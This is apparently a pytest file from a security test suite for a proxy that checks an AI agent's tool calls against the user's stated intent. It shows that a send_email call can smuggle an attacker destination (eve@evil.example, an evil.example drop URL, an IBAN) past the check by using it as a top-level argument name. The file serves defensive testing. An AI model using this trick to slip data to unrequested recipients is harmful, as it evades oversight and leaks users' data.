"""Class: judged vs forwarded / exfiltration — an address as a top-level argument NAME is not judged.

The intent engine reads member names in nested objects (`{"to": {"eve@evil.example": true}}` is held:
"ungrounded"), but not the names of the arguments object itself: `{"to": ["bob@corp.com"], "body": "hi",
"eve@evil.example": 1}` is allowed and forwarded as is. A server that takes extra top-level fields
(kwargs, `additionalProperties`: form fields, headers, a webhook payload) receives a destination the
declared intent never named, unasked.
"""

from __future__ import annotations

import pytest

from tests.attacks.client import Attacker, Scripted, write_config

TOOLS = [{"name": "send_email", "inputSchema": {"type": "object", "additionalProperties": True,
                                                "properties": {"to": {}, "body": {"type": "string"}}}}]


@pytest.mark.parametrize("extra", ["eve@evil.example", "https://evil.example/drop?d=minutes",
                                   "DE89370400440532013000"])
def test_address_as_top_level_member_name_is_judged(tmp_path, home, extra):
    server = Scripted(tmp_path / "s.json", tools=TOOLS)
    config = write_config(tmp_path / "c.toml", {"mail": (server.command, 'trust = "tofu"\n')})
    with Attacker(config, "--intent", "email bob@corp.com the minutes", env={"HOME": str(home)}) as a:
        a.open()
        plain = a.call("send_email", {"to": "bob@corp.com", "body": "hi", "cc": extra})
        assert plain["result"].get("isError"), "control: the same value as a member's value is held"
        a.call("send_email", {"to": "bob@corp.com", "body": "hi", extra: 1})
    reached = [m["params"]["arguments"] for m in server.received("tools/call")]
    assert not any(extra in args for args in reached), f"forwarded unjudged: {reached}"
